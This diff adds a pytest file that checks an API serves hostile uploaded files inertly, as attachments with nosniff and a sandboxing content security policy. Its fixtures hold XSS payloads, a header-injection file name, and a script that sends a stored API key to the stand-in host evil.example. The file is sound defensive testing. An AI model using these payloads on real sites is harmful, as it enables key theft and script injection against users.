@@ -1,0 +1,85 @@
+"""What a browser does with the API's answers when their content is hostile: a file that sandbox code or
+another user of the tenant wrote (an HTML page, an SVG with a script) is a download, never a page of the
+API's origin (where the web page keeps its key); every answer, errors included, is neither sniffed nor
+framed nor allowed to run anything."""
+
+from __future__ import annotations
+
+import httpx
+
+from .conftest import Running
+
+HOSTILE = {
+    "evil.html": b"<html><script>fetch('https://evil.example/?k='+localStorage['thinkbox.key'])</script>",
+    "pics/evil.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
+    "page.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
+    "noext": b"<!doctype html><script>alert(1)</script>",
+}
+
+
+def assert_inert(answer: httpx.Response) -> None:
+    """The answer cannot become an active page of the API's origin, whatever its body holds."""
+    headers = answer.headers
+    assert headers.get("x-content-type-options") == "nosniff", (answer.request.url, dict(headers))
+    policy = headers.get("content-security-policy", "")
+    for part in ("default-src 'none'", "sandbox", "frame-ancestors 'none'"):
+        assert part in policy, (answer.request.url, part, policy)
+    assert headers.get("referrer-policy") == "no-referrer", (answer.request.url, dict(headers))
+
+
+def test_a_hostile_file_downloads_as_an_attachment_in_both_scopes(running: Running) -> None:
+    with running.client(running.alice) as alice, running.client(running.bob) as bob:
+        for scope in ("user", "tenant"):
+            for path, body in HOSTILE.items():
+                put = alice.put(f"/v1/files/{path}", params={"scope": scope}, content=body)
+                assert put.status_code == 201
+            reader = alice if scope == "user" else bob  # a tenant mate's file, downloaded by bob
+            for path, body in HOSTILE.items():
+                answer = reader.get(f"/v1/files/{path}", params={"scope": scope})
+                assert answer.status_code == 200 and answer.content == body
+                assert answer.headers["content-type"] == "application/octet-stream"
+                name = path.rsplit("/", 1)[-1]
+                assert answer.headers["content-disposition"] == f"attachment; filename*=UTF-8''{name}"
+                assert answer.headers["cache-control"] == "no-store"
+                assert_inert(answer)
+            for path in HOSTILE:
+                alice.delete(f"/v1/files/{path}", params={"scope": scope})
+
+
+def test_a_file_name_cannot_break_out_of_its_content_disposition(running: Running) -> None:
+    name = 'a"; filename=evil.html; x=\u202egpj.exe'
+    with running.client(running.alice) as alice:
+        assert alice.put("/v1/files/" + name, content=b"x").status_code == 201
+        answer = alice.get("/v1/files/" + name)
+        disposition = answer.headers["content-disposition"]
+        assert disposition.startswith("attachment; filename*=UTF-8''") and disposition.count(";") == 1
+        assert '"' not in disposition and " " not in disposition.split(";", 1)[1].strip()
+        assert "%E2%80%AE" in disposition  # percent-encoded: a reader sees the bytes, not a reversed name
+        alice.delete("/v1/files/" + name)
+
+
+def test_errors_and_json_answers_are_inert_too(running: Running) -> None:
+    with running.client(running.alice) as alice:
+        answers = [
+            httpx.get(running.url + "/v1/files/evil.html"),  # 401: no key
+            alice.get("/v1/no/<script>alert(1)</script>"),  # 404 that names the path
+            alice.get("/v1/files/missing.html"),  # 404 of the files API
+            alice.post("/v1/runs", content=b"<svg onload=alert(1)>", headers={"Content-Type": "text/html"}),
+            alice.get("/v1/me"),
+            httpx.get(running.url + "/v1/images/r_00/1-" + "0" * 32 + ".png"),  # 404 without a key
+            httpx.get(running.url + "/healthz"),
+            httpx.get(running.url + "/openapi.json"),
+        ]
+    assert [a.status_code for a in answers] == [401, 404, 404, 422, 200, 404, 200, 200]
+    for answer in answers:
+        assert_inert(answer)
+
+
+def test_the_page_keeps_its_own_policy_and_the_docs_cannot_be_framed(running: Running) -> None:
+    page = httpx.get(running.url + "/")
+    assert "script-src 'self'" in page.headers["content-security-policy"]
+    assert "sandbox" not in page.headers["content-security-policy"]  # the page runs its own scripts
+    for path in ("/docs", "/redoc"):
+        docs = httpx.get(running.url + path)
+        assert docs.status_code == 200 and docs.headers.get("x-content-type-options") == "nosniff"
+        assert docs.headers["content-security-policy"] == "frame-ancestors 'none'"
